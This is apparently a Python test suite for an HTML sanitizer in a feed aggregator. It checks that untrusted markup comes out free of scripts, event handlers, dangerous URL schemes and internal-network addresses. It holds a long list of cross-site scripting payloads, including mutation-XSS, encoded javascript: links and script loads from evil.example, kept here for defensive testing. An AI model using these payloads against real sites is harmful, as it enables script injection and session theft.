"""HTML from strangers: whatever goes in, an independent parser finds nothing dangerous in what comes out."""

import re
from collections.abc import Iterator
from types import SimpleNamespace as Box
from typing import Any

import html5lib
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from aggregator.sanitize import MOST_BYTES, MOST_DEPTH, _clean, sanitize_html
from aggregator.text import plain_text

quick = settings(max_examples=40, deadline=None, derandomize=True)
BASE = "https://h.example/dir/page"
XHTML = "{http://www.w3.org/1999/xhtml}"

# What may stand in the output, written a second time.
HARMLESS = {
    **{
        name: set[str]()
        for name in "p br hr h2 h3 h4 h5 h6 ul li dl dt dd pre code em strong b i u s sub sup small mark"
        " abbr cite figure figcaption table thead tbody tfoot tr caption picture".split()
    },
    "a": {"href", "rel"},
    "img": {"src", "alt", "width", "height", "loading", "referrerpolicy"},
    "source": {"srcset", "media", "type"},
    "ol": {"start"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
    "blockquote": {"cite"},
    "q": {"cite"},
    "del": {"cite", "datetime"},
    "ins": {"cite", "datetime"},
}
EVERYWHERE = {"lang", "dir", "title"}


def dangers(html: str) -> Iterator[str]:
    """Yield what html5lib finds in a fragment that must not be there, read once and read again."""
    tree = html5lib.parseFragment(html)
    yield from _dangers(tree)
    yield from _dangers(html5lib.parseFragment(html5lib.serialize(tree, quote_attr_values="always")))


def _dangers(tree: Any) -> Iterator[str]:
    for element in tree.iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        if not isinstance(element.tag, str) or not element.tag.startswith(XHTML):
            yield f"a foreign element or a comment: {element.tag}"
            continue
        name = element.tag.removeprefix(XHTML)
        if name not in HARMLESS:
            yield f"<{name}>"
            continue
        for attribute, value in element.attrib.items():
            if attribute not in HARMLESS[name] | EVERYWHERE:
                yield f"<{name} {attribute}>"
            elif attribute in ("href", "src", "cite"):
                yield from _bad_address(
                    value, ("http:", "https:", "mailto:")[: 2 if attribute == "src" else 3]
                )
            elif attribute == "srcset":
                for candidate in value.split(", "):
                    yield from _bad_address(candidate, ("http:", "https:"))


def _bad_address(value: str, schemes: tuple[str, ...]) -> Iterator[str]:
    """Read an address as a browser does: controls around it go, tabs and line breaks inside as well."""
    address = re.sub("[\t\r\n]", "", value.strip("".join(map(chr, range(0x21)))))
    if not address.lower().startswith(schemes):
        yield f"an address {address!r}"


PAYLOADS = [
    # scripts, plain and hidden
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\x0c>alert(1)</script\x0c>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script><!--<script></script>--></script><img src=x onerror=alert(1)>",
    "<scri\x00pt>alert(1)</scri\x00pt>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" ` onerror=alert(1)>',
    "<p onclick=alert(1) ONMOUSEOVER=alert(2)>x</p>",
    "<b onfocus=alert(1) tabindex=1 autofocus contenteditable>x</b>",
    '<a href="https://x.example/" onclick="alert(1)">x</a>',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<p \x00onclick=alert(1) \x0bonclick=alert(2)>x</p>",
    # addresses
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="java&NewLine;script&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="\u2028javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://x.example/1">x</a>',
    '<a href="view-source:javascript:alert(1)">x</a>',
    '<a href="magnet:?xt=1">x</a><a href="tel:1">y</a><a href="sms:1">z</a>',
    '<a href="javascript:alert(1)" href="https://x.example/">x</a>',
    "<a href=javascript&colon;alert&lpar;1&rpar;>x</a>",
    '<a href="https://x.example/" ping="https://evil.example/" target=_top download>x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="mailto:ann@x.example">',
    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)" longdesc="javascript:alert(1)">',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<q cite="data:text/html,x">x</q><del cite="vbscript:x">y</del>',
    '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
    # srcset
    '<img srcset="javascript:alert(1) 1x, https://x.example/a.png 2x">',
    '<picture><source srcset="data:image/svg+xml,x 1x, javascript:alert(1) 2x"><img src=x></picture>',
    '<picture><source srcset="https://x.example/a.png 1x, javascript:alert(1)"></picture>',
    '<picture><source srcset="https://x.example/a.png,javascript:alert(1) 1x"></picture>',
    # frames, objects, documents
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)">',
    '<object data="javascript:alert(1)"><param name=src value=x></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code="x"></applet>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    "<dialog open>x</dialog><portal src=javascript:alert(1)>",
    # forms
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<textarea onfocus=alert(1) autofocus></textarea>",
    "<isindex type=image src=1 onerror=alert(1)><keygen onfocus=alert(1) autofocus>",
    # style
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="position:fixed;inset:0" class=x id=y name=z>x</p>',
    "<style><img src='</style><img src=x onerror=alert(1)>'></style>",
    # drawings and formulas
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml;base64,x#y"/></svg>',
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
    # mutation: safe as read, unsafe as written
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<template><s><template><s><img src=x onerror=alert(1)></s></template></s></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<svg><desc><noscript></svg><style><a title='</style><img src onerror=alert(1)>'>",
    "<table><caption><svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
    "<a title='`><img src=x onerror=alert(1)>'>x</a>",
    '<p title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>',
    # comments and sections
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
    '<?xml-stylesheet href="javascript:alert(1)"?><?php x ?>',
    "<!DOCTYPE html [<!ENTITY x 'y'>]>&x;",
    # what is cut, unclosed or odd
    '<img src="x" onerror="alert(1)',
    "<a href='javascript:alert(1)",
    '<p title="\u2028onclick=alert(1)">\u2029x</p>',
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ud800<img src=x onerror=alert(1)>\udfff",
    "<custom-element onclick=alert(1)><slot name=x>y</slot></custom-element>",
    "<p is=x-evil slot=x part=y itemscope data-x=1 aria-label=z>x</p>",
    "<b>" * 200 + "<script>alert(1)</script>" + "</b>" * 200,
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_dangerous_survives(payload: str) -> None:
    assert not list(dangers(sanitize_html(payload, base=BASE)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_safe_is_left_alone(payload: str) -> None:
    once = sanitize_html(payload, base=BASE)
    assert sanitize_html(once, base=BASE) == once


def test_the_judge_condemns_what_it_should() -> None:
    assert all(
        any(dangers(payload))
        for payload in PAYLOADS
        if "onerror" in payload and payload.startswith("<img src=x")
    )


@pytest.mark.parametrize(
    "address",
    [
        "http://127.0.0.1/x.png",
        "http://192.168.0.1/",
        "//10.0.0.1/x",
        "http://2130706433/",
        "http://[::1]/",
        "http://localhost/x",
    ],
)
def test_no_image_sends_a_reader_into_their_own_network(address: str) -> None:
    assert "://" not in sanitize_html(f'<p>x<img src="{address}"></p>', base=BASE)
    several = f'<picture><source srcset="{address} 2x, /y.png 1x"></picture>'
    assert 'srcset="https://h.example/y.png 1x"' in sanitize_html(several, base=BASE)
    assert sanitize_html(f'<a href="{address}">x</a>', base=BASE).count("href") == 1


PIECES = (
    "<p>|</p>|<b>|</b>|<a href=x>|<a href='/y?a=1&b=2'>|</a>|<img src=i.png>|<table>|<td>|</table>|<ul>|<li>"
    "|<br/>|<hr>|<q cite=z>|<svg>|</svg>|<math>|</math>|<style>|</style>|<!--|-->|&lt;|&amp;|&nbsp;|&#0;"
    "|<picture>|<source srcset='a.png,b.png'>|<i title='&quot;'>|\"|'|<|>|&|\n| "
)
MARKUP = st.lists(
    st.one_of(st.sampled_from(PAYLOADS), st.text(max_size=6), st.sampled_from(PIECES.split("|"))), max_size=8
).map("".join)


@quick
@given(MARKUP, st.sampled_from(["", BASE]))
@example("<p>a\xa0b</p>", "")
def test_any_fragment_becomes_safe_and_stays_safe(html: str, base: str) -> None:
    once = sanitize_html(html, base=base)
    twice = sanitize_html(once, base=base)
    assert not list(dangers(once))
    assert not list(dangers(twice))
    assert sanitize_html(twice, base=base) == twice


@pytest.mark.parametrize("html", ["<h2>a<div><h3>b</h3></div></h2>", "<li>a<center><li>b</center>"])
def test_what_stood_in_an_unknown_element_is_left_alone(html: str) -> None:
    once = sanitize_html(html)
    assert sanitize_html(once) == once


def test_a_blank_first_line_of_a_listing_stays() -> None:
    once = sanitize_html("<pre>\n\nx</pre>")
    assert sanitize_html(once) == once


# ---------------------------------------------------------------- what stays

REL = 'rel="noopener noreferrer nofollow ugc"'
LAZY = 'loading="lazy" referrerpolicy="no-referrer"'


@pytest.mark.parametrize(
    ("html", "clean"),
    [
        pytest.param("<p>a <b>b</b> <em>c</em></p>", "<p>a <b>b</b> <em>c</em></p>", id="text"),
        pytest.param("<p>a<p>b", "<p>a</p><p>b</p>", id="what is unclosed is closed"),
        pytest.param("<div>a<section>b</section></div>", "ab", id="an unknown element leaves its text"),
        pytest.param("a<script>b</script>c", "ac", id="a script goes with its text"),
        pytest.param("<h1>a</h1><h2>b</h2>", "a<h2>b</h2>", id="the page has its own first heading"),
        pytest.param("a<!-- b -->c", "ac", id="comments go"),
        pytest.param("1 < 2 & 3", "1 &lt; 2 &amp; 3", id="loose marks are escaped"),
        pytest.param(
            "<p lang=de dir=rtl title=t class=c>x</p>",
            '<p lang="de" dir="rtl" title="t">x</p>',
            id="attributes",
        ),
        pytest.param("<a href=next>x</a>", f'<a href="https://h.example/dir/next" {REL}>x</a>', id="a link"),
        pytest.param(
            "<a href=mailto:a@x.example>x</a>", f'<a href="mailto:a@x.example" {REL}>x</a>', id="a mailbox"
        ),
        pytest.param(
            "<a href=ftp://x.example/>x</a>", f"<a {REL}>x</a>", id="a link to nowhere keeps its text"
        ),
        pytest.param(
            "<a href=/x rel=author>x</a>", f'<a href="https://h.example/x" {REL}>x</a>', id="rel is ours"
        ),
        pytest.param(
            "<img src=/i.png alt=i>", f'<img src="https://h.example/i.png" alt="i" {LAZY}>', id="an image"
        ),
        pytest.param("<img src=data:,x alt=i>", f'<img alt="i" {LAZY}>', id="an image from nowhere"),
        pytest.param("<q cite=/c>x</q>", '<q cite="https://h.example/c">x</q>', id="a citation"),
        pytest.param("<td colspan=2>x</td>", "x", id="a cell without a table"),
        pytest.param("<ol start=3><li>x</ol>", '<ol start="3"><li>x</li></ol>', id="a list"),
        pytest.param("a\x00\x1b\ufffeb", "ab", id="controls"),
    ],
)
def test_what_is_harmless_stays_readable(html: str, clean: str) -> None:
    assert sanitize_html(html, base=BASE) == clean


@pytest.mark.parametrize("html", ["", " \n ", "\x00", "<script>x</script>", "<!-- x -->", "<div></div>"])
def test_nothing_comes_of_nothing(html: str) -> None:
    assert sanitize_html(html) == ""


def test_without_a_base_relative_addresses_go() -> None:
    assert sanitize_html("<a href=next>x</a><img src=i.png>") == f"<a {REL}>x</a><img {LAZY}>"


def test_the_same_fragment_always_gives_the_same_bytes() -> None:
    assert len({sanitize_html("<img src=i.png alt=i>", base=BASE) for _ in range(100)}) == 1


@pytest.mark.parametrize(
    ("srcset", "kept"),
    [
        pytest.param("a.png", "https://h.example/dir/a.png", id="one"),
        pytest.param(
            "a.png 1x, /b.png 2.5x", "https://h.example/dir/a.png 1x, https://h.example/b.png 2.5x", id="two"
        ),
        pytest.param("a,b.png 300w", "https://h.example/dir/a,b.png 300w", id="a comma in an address"),
        pytest.param("data:,x 1x, a.png 2x", "https://h.example/dir/a.png 2x", id="only the safe one"),
        pytest.param("a.png 1q", "", id="a size that is none"),
        pytest.param(" ", "", id="nothing"),
        pytest.param(
            "a.png 1x,b.png 2x",
            "https://h.example/dir/a.png 1x, https://h.example/dir/b.png 2x",
            id="no space after the comma",
        ),
        pytest.param(
            "a.png\n2x",
            "https://h.example/dir/a.png 2x",
            id="a line break before the size",
        ),
    ],
)
def test_each_candidate_of_a_srcset_is_vetted(srcset: str, kept: str) -> None:
    expected = f'<source srcset="{kept}">' if kept else "<source>"
    assert (
        sanitize_html(f'<picture><source srcset="{srcset}"></picture>', base=BASE)
        == f"<picture>{expected}</picture>"
    )


# ---------------------------------------------------------------- size and depth


def depth_of(html: str) -> int:
    deepest, level = 0, [html5lib.parseFragment(html)]
    while level := [child for element in level for child in element]:
        deepest += 1
    return deepest


@pytest.mark.parametrize(
    "html",
    [
        pytest.param("<blockquote>" * 600 + "x", id="unclosed"),
        pytest.param("<blockquote>" * 600 + "x" + "</blockquote>" * 600, id="closed"),
        pytest.param("<blockquote a='>'>" * 600 + "x", id="a tag end in an attribute"),
        pytest.param("<BlockQuote\n>" * 600 + "x", id="capitals and white space"),
        pytest.param(
            "<blockquote/>" * 600 + "x",
            id="as if self-closing",
        ),
        pytest.param(
            "<blockquote></x>" * 600 + "x",
            id="with stray end tags between",
        ),
    ],
)
def test_a_nesting_bomb_is_reduced_to_its_text(html: str) -> None:
    clean = sanitize_html(html)
    assert depth_of(clean) <= MOST_DEPTH
    assert plain_text(clean) == "x"


def test_an_element_nested_as_deep_as_allowed_stays() -> None:
    html = "<b>" * MOST_DEPTH + "x" + "</b>" * MOST_DEPTH
    assert sanitize_html(html) == html


@pytest.mark.parametrize(
    "html",
    [
        pytest.param(f"<p>{'ü ' * 500}</p>" * (MOST_BYTES // 1000), id="many elements"),
        pytest.param("<p title='" + "x" * MOST_BYTES + "'>a &lt;b&gt;</p>", id="one attribute"),
        pytest.param(f"<img onerror=x>{'a' * 500}<script>x</script>" * (MOST_BYTES // 500), id="payloads"),
    ],
)
def test_a_fragment_too_large_is_reduced_to_paragraphs_of_its_text(html: str) -> None:
    clean = sanitize_html(html)
    assert set(re.findall("<[^>]*>", clean)) <= {"<p>", "</p>"}
    assert plain_text(html).startswith(plain_text(clean))
    assert len(clean.encode()) > min(len(plain_text(html)), MOST_BYTES // 2)


def test_a_fragment_of_just_the_allowed_size_keeps_its_elements() -> None:
    html = "<b>" + "x" * (MOST_BYTES - len("<b></b>")) + "</b>"
    assert sanitize_html(html) == html
    assert "<b>" not in sanitize_html(html + "x")


@pytest.mark.parametrize("text", ["ü", "&amp;"])
def test_the_text_of_a_fragment_too_large_is_no_larger_than_allowed(text: str) -> None:
    assert len(sanitize_html(f"<p>{text * (MOST_BYTES // 2)}</p>").encode()) <= MOST_BYTES


@pytest.mark.parametrize(
    "html",
    [
        pytest.param("<a href=" + "a" * 2040 + ">x</a>", id="an address that grows too long"),
        pytest.param("<a href=a>x</a>" * (MOST_BYTES // 40), id="a fragment that grows too large"),
    ],
)
def test_what_grew_when_it_was_made_safe_is_still_left_alone(html: str) -> None:
    once = sanitize_html(html, base=BASE)
    assert sanitize_html(once, base=BASE) == once


@pytest.mark.parametrize("swapped", [False, True])
def test_what_is_added_to_an_image_stands_in_one_order_whatever_stands_between(
    monkeypatch: pytest.MonkeyPatch, *, swapped: bool
) -> None:
    """In which order it comes is another in each process, so both are given here."""
    added = ['loading="lazy"', 'referrerpolicy="no-referrer"']
    first, last = reversed(added) if swapped else added
    html = f'<p>a</p><img {first} title="a &lt; b" alt="x" {last}><p>{last} {first}</p>'
    monkeypatch.setattr("aggregator.sanitize._cleaner", lambda base: Box(clean=lambda html: html))
    assert _clean(html, BASE) == html.replace(f"{first} title", f"{added[0]} title").replace(
        f"{last}>", f"{added[1]}>"
    )
